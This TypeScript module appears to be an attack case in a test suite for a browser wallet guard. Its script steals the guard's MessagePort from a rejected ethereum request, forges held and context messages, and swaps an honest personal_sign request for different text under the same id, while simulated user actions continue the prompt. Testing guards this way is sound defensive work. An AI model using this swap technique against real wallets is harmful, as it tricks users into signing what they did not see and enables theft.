import type { Attack } from './kit/attack.ts'

export default {
  family: 'stolen-port',
  how: "Takes the guard's port from window.event when a request is rejected, has an honest request held on it, and gives another text under the same id before the user continues.",
  script: `
    let port
    const take = () => { port ??= window.event?.currentTarget instanceof MessagePort ? window.event.currentTarget : undefined }
    attack.tell('asked')
    await attack.ended(ethereum.request(attack.sign).catch(take))
    if (port) {
      attack.tell('taken')
      const hold = (params) => port.postMessage({
        type: 'request.hold', id: 'swapped', provider: {}, method: 'personal_sign', text: JSON.stringify(params), chainId: '0x7a69', account: attack.account,
      })
      port.addEventListener('message', ({ data }) => {
        if (data.type === 'request.probe') port.postMessage({ type: 'request.context', id: data.id, chainId: '0x7a69', account: attack.account })
        if (data.id === 'swapped' && data.type === 'request.forward') postMessage(attack.posted(attack.sign), '*')
      })
      hold(attack.honest.params)
      await attack.sleep(150)
      hold(attack.sign.params)
      await attack.sleep(5000)
    }
  `,
  async hands({ hear, continueHonest }) {
    await hear('asked')
    await continueHonest()
    if (await hear('taken')) await continueHonest()
  },
} satisfies Attack
